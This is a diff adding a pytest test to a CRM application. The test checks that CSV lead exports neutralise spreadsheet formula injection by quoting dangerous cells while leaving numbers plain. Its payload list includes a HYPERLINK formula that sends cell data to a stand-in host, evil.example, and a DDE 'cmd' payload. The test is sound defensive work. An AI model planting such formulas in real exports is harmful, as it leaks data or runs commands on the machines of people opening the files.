@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import re
 from datetime import timedelta
 
 import httpx
@@ -136,6 +137,45 @@ def test_export_then_import_keeps_numbers_numbers(session, tmp_path):
     assert session.execute(text(
         "SELECT count(*) FROM leads, jsonb_each(custom_fields) f WHERE email IN ('mia@example.com', "
         "'leo@example.com') AND jsonb_typeof(f.value) <> 'number'")).scalar_one() == 0
+
+
+# The cells the penetration test put in through forms, the API and imports (issue #17, item 1).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,1)",
+    "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "'=1+1",
+]
+
+
+def test_no_cell_of_an_export_starts_a_spreadsheet_formula_and_numbers_stay_numbers(session):
+    ria = make_user(session, "Ria Rep")
+    custom = {f"note {i}": text for i, text in enumerate(FORMULAS)}
+    custom.update({"=evil header": "x", "Budget": -5000, "Ratio": -0.25, "As text": "-12.5",
+                   "Phone 2": "+44 20 7946"})
+    lead = make_lead(session, FORMULAS[0], now=NOW, owner=ria, company="@SUM(1,1)", deal_value=1234567,
+                     activities=[(ActivityKind.PRICING_REQUEST, timedelta(minutes=20))])
+    lead.title, lead.phone, lead.external_id, lead.custom_fields = "=1+1", "+44 20 7946 0958", "-1+1", custom
+    session.add(lead)
+    session.commit()
+    text = "".join(stream_leads_csv(session.connection(), LeadFilter(owner_id=ria.id)))
+    header, row = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, row))
+
+    starts, number = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), re.compile(r"-?\d+(\.\d+)?")
+    dangerous = [cell for cell in [*row, *header] if cell[:1] in starts and not number.fullmatch(cell)]
+    assert dangerous == []
+    # Every formula is kept, as text: one leading quote, which restore_cell takes off again.
+    from crm_app.services.exporting import restore_cell
+
+    for i, formula in enumerate(FORMULAS):
+        assert cells[f"note {i}"] == "'" + formula and restore_cell(cells[f"note {i}"]) == formula
+    assert (cells["Name"], cells["Company"], cells["Job title"]) == ("'" + FORMULAS[0], "'@SUM(1,1)", "'=1+1")
+    assert (cells["Phone"], cells["External id"]) == ("'+44 20 7946 0958", "'-1+1")
+    assert cells["'=evil header"] == "x"  # a custom field's name is a header cell like any other
+    assert cells["Why (score reasons)"].startswith("'+30 Asked for pricing")  # the generated reasons too
+    # Numbers are plain numbers: negative ones too, no thousands separators, no quote.
+    assert (cells["Budget"], cells["Ratio"], cells["As text"], cells["Deal value"]) == (
+        "-5000", "-0.25", "-12.5", "1234567.00")
+    assert cells["Score"].isdecimal() and cells["Pipeline CRM id"] == str(lead.id)
 
 
 # --- The download route: a link lasts only as long as the sign-in it was made in (issue #17, item 4) ---
